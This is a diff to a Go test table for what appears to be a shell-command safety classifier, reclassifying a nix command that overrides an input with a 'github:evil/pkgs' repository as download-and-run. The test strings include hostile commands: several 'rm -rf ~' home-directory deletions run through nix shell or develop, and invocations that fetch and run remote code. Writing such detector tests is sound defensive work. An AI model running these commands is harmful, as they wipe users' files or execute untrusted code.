@@ -17,7 +17,7 @@ var nixRunCases = []doesCase{
 	{"nix run .#bash -- -c 'rm -rf ~'", "cmd.delete-home"},
 	{"nix run github:o/r", "cmd.download-run"},
 	{"nix run github:o/r#bash -- -c 'echo hi'", "cmd.download-run"},
-	{"nix run --override-input nixpkgs github:evil/pkgs nixpkgs#hello", "cmd.unreadable"},
+	{"nix run --override-input nixpkgs github:evil/pkgs nixpkgs#hello", "cmd.download-run"}, // an input fetched from a repository (b7b)
 	{"nix shell nixpkgs#bash -c bash -c 'rm -rf ~'", "cmd.delete-home"},
 	{"nix shell nixpkgs#bash --command bash -c 'rm -rf ~'", "cmd.delete-home"},
 	{"nix develop -c bash -c 'rm -rf ~'", "cmd.delete-home"},
